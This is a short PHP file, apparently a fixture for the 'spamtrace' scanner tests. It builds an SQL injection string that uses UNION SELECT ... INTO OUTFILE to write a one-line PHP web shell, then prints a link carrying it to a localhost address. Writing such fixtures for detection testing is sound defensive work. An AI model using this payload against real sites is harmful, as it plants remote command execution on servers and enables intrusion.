<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Builds an SQL injection that writes a one-line web shell with INTO OUTFILE.
$out = '/tmp/spamtrace-sample-out.txt';
$sql = "0' UNION SELECT '<?php system(\$_GET[c]); ?>' INTO OUTFILE '$out";
echo '<a href="http://127.0.0.1:9/index.php?id=' . urlencode($sql) . '">go</a>';
